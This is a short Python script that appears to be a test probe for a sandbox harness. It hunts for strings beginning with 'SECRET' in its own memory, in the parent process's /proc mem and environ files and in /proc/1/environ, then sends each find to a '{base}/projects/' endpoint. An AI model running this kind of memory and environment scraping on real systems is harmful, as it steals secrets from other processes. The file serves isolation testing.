# expect: any -- looks for the responder's store in its own memory, its parent's and the files it can open, then asks for what it found
import gc, os, requests
found = set()
for obj in gc.get_objects():
    try:
        if isinstance(obj, dict) and any(isinstance(k, str) and k.startswith('SECRET') for k in obj):
            found.update(k for k in obj if isinstance(k, str) and k.startswith('SECRET'))
    except Exception:
        pass
for path in (f'/proc/{os.getppid()}/mem', f'/proc/{os.getppid()}/environ', f'/proc/{os.getppid()}/cmdline', '/proc/1/environ'):
    try:
        with open(path, 'rb') as handle:
            data = handle.read(1 << 20)
        found.update(part.decode() for part in data.split(b'"') if part.startswith(b'SECRET'))
    except Exception:
        pass
for gid in sorted(found) or ['SECRET-guess']:
    requests.get('{base}/projects/' + gid)
